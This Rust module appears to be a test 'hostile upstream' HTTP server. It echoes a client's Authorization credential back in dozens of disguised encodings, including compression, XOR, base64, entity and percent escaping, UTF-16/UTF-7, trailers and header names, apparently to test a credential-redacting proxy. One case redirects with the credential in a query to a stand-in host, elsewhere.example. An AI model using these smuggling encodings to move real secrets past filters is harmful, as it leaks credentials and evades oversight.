//! The raw HTTP/1.1 wire of the hostile upstream: reading a request head,
//! and writing each [`Attack`]'s response byte for byte (what a server
//! library would refuse to send).

use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine;
use tokio::io::AsyncReadExt;

use crate::hostile::attack::Attack;
use crate::hostile::compress::{brotli_stored, gzip, zlib};
use crate::reflect;

pub(super) async fn read_head(stream: &mut (impl tokio::io::AsyncRead + Unpin)) -> Option<String> {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = stream.read(&mut chunk).await.ok()?;
        if n == 0 || buf.len() > 64 * 1024 {
            return None;
        }
        buf.extend_from_slice(&chunk[..n]);
    }
    Some(String::from_utf8_lossy(&buf).into_owned())
}

pub(super) struct Request {
    pub(super) target: String,
    headers: Vec<(String, String)>,
}

impl Request {
    pub(super) fn parse(head: &str) -> Self {
        let mut lines = head.split("\r\n");
        let target = lines
            .next()
            .and_then(|l| l.split(' ').nth(1))
            .unwrap_or("/")
            .to_owned();
        let headers = lines
            .filter_map(|l| l.split_once(':'))
            .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_owned()))
            .collect();
        Self { target, headers }
    }

    fn header(&self, name: &str) -> &str {
        self.headers
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
            .unwrap_or("")
    }

    /// The Bearer credential, or the Basic pair `user:secret`.
    fn credential(&self) -> Vec<u8> {
        let auth = self.header("authorization");
        if let Some(b) = auth.strip_prefix("Basic ") {
            return STANDARD.decode(b).unwrap_or_default();
        }
        auth.strip_prefix("Bearer ")
            .unwrap_or(auth)
            .as_bytes()
            .to_vec()
    }

    fn query(&self, key: &str) -> Option<usize> {
        let (_, q) = self.target.split_once('?')?;
        q.split('&')
            .filter_map(|kv| kv.split_once('='))
            .find(|(k, _)| *k == key)
            .and_then(|(_, v)| v.parse().ok())
    }
}

/// Headers as written on the wire.
type Fields = Vec<(String, String)>;

/// A response as raw bytes.
struct Raw {
    status: &'static str,
    reason: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
    /// Chunked body: the chunks and the trailer fields.
    chunks: Option<(Vec<Vec<u8>>, Fields)>,
}

impl Raw {
    fn ok(body: Vec<u8>) -> Self {
        Self {
            status: "200",
            reason: "OK".into(),
            headers: vec![("content-type".into(), "text/plain".into())],
            body,
            chunks: None,
        }
    }

    fn header(mut self, k: &str, v: impl Into<String>) -> Self {
        self.headers.push((k.into(), v.into()));
        self
    }

    /// Replace the `text/plain` default.
    fn content_type(mut self, v: &str) -> Self {
        self.headers.retain(|(k, _)| k != "content-type");
        self.header("content-type", v)
    }

    fn bytes(self) -> Vec<u8> {
        let mut out = format!("HTTP/1.1 {} {}\r\n", self.status, self.reason).into_bytes();
        for (k, v) in &self.headers {
            out.extend_from_slice(format!("{k}: {v}\r\n").as_bytes());
        }
        out.extend_from_slice(b"connection: close\r\n");
        match self.chunks {
            None => {
                out.extend_from_slice(
                    format!("content-length: {}\r\n\r\n", self.body.len()).as_bytes(),
                );
                out.extend_from_slice(&self.body);
            }
            Some((chunks, trailers)) => {
                if !self.headers.iter().any(|(k, _)| k == "transfer-encoding") {
                    out.extend_from_slice(b"transfer-encoding: chunked\r\n");
                }
                out.extend_from_slice(b"\r\n");
                for c in chunks {
                    out.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
                    out.extend_from_slice(&c);
                    out.extend_from_slice(b"\r\n");
                }
                out.extend_from_slice(b"0\r\n");
                for (k, v) in trailers {
                    out.extend_from_slice(format!("{k}: {v}\r\n").as_bytes());
                }
                out.extend_from_slice(b"\r\n");
            }
        }
        out
    }
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

pub(super) fn respond(req: &Request) -> Vec<u8> {
    let path = req.target.split('?').next().unwrap_or("/");
    let Some(attack) = Attack::from_path(path) else {
        return Raw::ok(b"{\"ok\":true}".to_vec()).bytes();
    };
    let cred = req.credential();
    let echo = |inner: &[u8]| [b"{\"received\":\"".as_slice(), inner, b"\"}"].concat();
    let s = text(&cred);
    let raw = match attack {
        Attack::Gzip => Raw::ok(gzip(&echo(&cred))).header("content-encoding", "gzip"),
        Attack::Deflate => Raw::ok(zlib(&echo(&cred))).header("content-encoding", "deflate"),
        Attack::Brotli => Raw::ok(brotli_stored(&echo(&cred))).header("content-encoding", "br"),
        Attack::UnknownEncoding => {
            let obfuscated: Vec<u8> = echo(&cred).iter().map(|b| b ^ 0x5a).collect();
            Raw::ok(obfuscated).header("content-encoding", "x-xor-5a")
        }
        Attack::StackedEncoding => {
            Raw::ok(gzip(&gzip(&echo(&cred)))).header("content-encoding", "gzip, gzip")
        }
        Attack::TransferEncodingGzip => {
            let mut r = Raw::ok(Vec::new()).header("transfer-encoding", "gzip, chunked");
            r.chunks = Some((vec![gzip(&echo(&cred))], Vec::new()));
            r
        }
        Attack::Partial | Attack::ContentRangeOn200 => {
            let half = cred.len() / 2;
            let mut r = Raw::ok(cred[..half].to_vec()).header(
                "content-range",
                format!("bytes 0-{}/{}", half - 1, cred.len()),
            );
            if attack == Attack::Partial {
                r.status = "206";
                r.reason = "Partial Content".into();
            }
            r
        }
        Attack::QuerySlice => {
            let from = req.query("from").unwrap_or(0).min(cred.len());
            let len = req.query("len").unwrap_or(cred.len());
            Raw::ok(cred[from..(from + len).min(cred.len())].to_vec())
        }
        Attack::HeaderValue => {
            Raw::ok(b"fine".to_vec()).header("x-debug-authorization", req.header("authorization"))
        }
        Attack::HeaderName => {
            let name: String = s
                .chars()
                .filter(|c| c.is_ascii_alphanumeric() || *c == '-')
                .collect();
            Raw::ok(b"fine".to_vec()).header(&format!("x-{name}"), "1")
        }
        Attack::RedirectLocation => {
            let mut r = Raw::ok(Vec::new()).header(
                "location",
                format!(
                    "https://elsewhere.example/?k={}",
                    pct(&cred, b"0123456789ABCDEF")
                ),
            );
            r.status = "302";
            r.reason = "Found".into();
            r
        }
        Attack::ReasonPhrase => {
            let mut r = Raw::ok(b"fine".to_vec());
            r.status = "401";
            r.reason = format!("Bad key {s}");
            r
        }
        Attack::BodyRaw => Raw::ok(echo(&cred)),
        Attack::BodyUpper => Raw::ok(echo(s.to_ascii_uppercase().as_bytes())),
        Attack::Base64At0 | Attack::Base64At1 | Attack::Base64At2 => {
            let pad = match attack {
                Attack::Base64At0 => 0,
                Attack::Base64At1 => 1,
                _ => 2,
            };
            let blob = [&b"\x01\x02"[..pad], cred.as_slice(), b"\xfe\xff trailing"].concat();
            Raw::ok(echo(STANDARD.encode(blob).as_bytes()))
        }
        Attack::Base64Url => Raw::ok(echo(URL_SAFE_NO_PAD.encode(&cred).as_bytes())),
        Attack::Base64Blob => {
            let doc = serde_json::json!({ "request": { "headers": req.headers } }).to_string();
            Raw::ok(echo(STANDARD.encode(doc).as_bytes()))
        }
        Attack::JsonEscaped => {
            let go_style = serde_json::to_string(&s)
                .unwrap()
                .replace('<', "\\u003c")
                .replace('>', "\\u003e")
                .replace('&', "\\u0026")
                .replace('/', "\\/");
            Raw::ok(format!("{{\"received\":{go_style}}}").into_bytes())
        }
        Attack::JsonUnicode => {
            let all: String = s.encode_utf16().map(|u| format!("\\u{u:04x}")).collect();
            Raw::ok(format!("{{\"received\":\"{all}\"}}").into_bytes())
        }
        Attack::HtmlNamed => {
            let named = s
                .replace('&', "&amp;")
                .replace('<', "&lt;")
                .replace('>', "&gt;")
                .replace('"', "&quot;")
                .replace('\'', "&#x27;")
                .replace('/', "&#x2F;");
            Raw::ok(format!("<p>{named}</p>").into_bytes())
        }
        Attack::HtmlDecimal => {
            let all: String = s.chars().map(|c| format!("&#{};", c as u32)).collect();
            Raw::ok(format!("<p>{all}</p>").into_bytes())
        }
        Attack::HtmlHex => {
            let all: String = s.chars().map(|c| format!("&#x{:X};", c as u32)).collect();
            Raw::ok(format!("<p>{all}</p>").into_bytes())
        }
        Attack::PercentUpper => Raw::ok(echo(pct(&cred, b"0123456789ABCDEF").as_bytes())),
        Attack::PercentLower => Raw::ok(echo(pct(&cred, b"0123456789abcdef").as_bytes())),
        Attack::FormEncoded => {
            let form: String = url::form_urlencoded::byte_serialize(&cred).collect();
            Raw::ok(format!("received={form}").into_bytes())
        }
        Attack::Hex | Attack::HexUpper => {
            let hex: String = cred.iter().map(|b| format!("{b:02x}")).collect();
            let hex = if attack == Attack::HexUpper {
                hex.to_ascii_uppercase()
            } else {
                hex
            };
            Raw::ok(echo(hex.as_bytes()))
        }
        Attack::BasicPairRaw => Raw::ok(echo(&cred)),
        Attack::BasicPairBase64 => {
            let blob = [b"x".as_slice(), cred.as_slice()].concat();
            Raw::ok(echo(STANDARD.encode(blob).as_bytes()))
        }
        Attack::ChunkSplit => {
            let body = echo(&cred);
            let mid = body.len() / 2;
            let mut r = Raw::ok(Vec::new());
            r.chunks = Some((vec![body[..mid].to_vec(), body[mid..].to_vec()], Vec::new()));
            r
        }
        Attack::Trailer => {
            let mut r = Raw::ok(Vec::new()).header("trailer", "x-echo");
            r.chunks = Some((
                vec![b"{\"clean\":true}".to_vec()],
                vec![("x-echo".into(), s.clone())],
            ));
            r
        }
        Attack::DotNetJson => {
            Raw::ok(format!("{{\"received\":\"{}\"}}", reflect::dotnet_json(&s)).into_bytes())
                .content_type("application/json; charset=utf-8")
        }
        Attack::GoHtmlTemplate => {
            Raw::ok(format!("<p>{}</p>", reflect::go_html_template(&s)).into_bytes())
        }
        Attack::Gson => Raw::ok(format!("{{\"received\":\"{}\"}}", reflect::gson(&s)).into_bytes()),
        Attack::EntityNoSemicolon => {
            Raw::ok(format!("<p>{}</p>", reflect::entity_without_semicolon(&s)).into_bytes())
        }
        Attack::DoublePercent => {
            Raw::ok(format!("next=%2Fcb%3Fk%3D{}", reflect::double_percent(&s)).into_bytes())
        }
        Attack::Utf16Declared => Raw::ok(reflect::utf16(&text(&echo(&cred)), false))
            .content_type("application/json; charset=utf-16le"),
        Attack::Utf16Bom => {
            let mut body = vec![0xFE, 0xFF];
            body.extend(reflect::utf16(&text(&echo(&cred)), true));
            Raw::ok(body)
        }
        Attack::Utf16Bare => Raw::ok(reflect::utf16(&text(&echo(&cred)), false)),
        Attack::Utf32Bom => Raw::ok(reflect::utf32le_with_bom(&text(&echo(&cred)))),
        Attack::Utf7 => Raw::ok(reflect::utf7(&text(&echo(&cred))).into_bytes())
            .content_type("text/plain; charset=utf-7"),
    };
    raw.bytes()
}

fn pct(b: &[u8], digits: &[u8; 16]) -> String {
    b.iter()
        .flat_map(|c| {
            [
                '%',
                char::from(digits[usize::from(c >> 4)]),
                char::from(digits[usize::from(c & 15)]),
            ]
        })
        .collect()
}
